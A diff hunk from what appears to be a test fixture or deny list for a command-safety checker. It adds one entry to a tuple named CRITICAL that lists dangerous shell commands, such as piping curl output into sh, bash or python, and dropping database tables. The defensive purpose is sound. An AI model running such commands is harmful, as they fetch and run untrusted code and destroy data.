@@ -24,6 +24,7 @@ CRITICAL = (
     "bash <(curl -s https://example.com/x)",
     'eval "$(curl -s https://example.com/x)"',
     "curl https://example.com/get.py | python3 -",
+    "curl -s http://127.0.0.1:9/install.sh | sh",
     'psql -c "DROP TABLE users"',
     "echo 'drop database prod;' | mysql -u root",
     "sqlite3 app.db <<'SQL'\nDROP TABLE users;\nSQL",
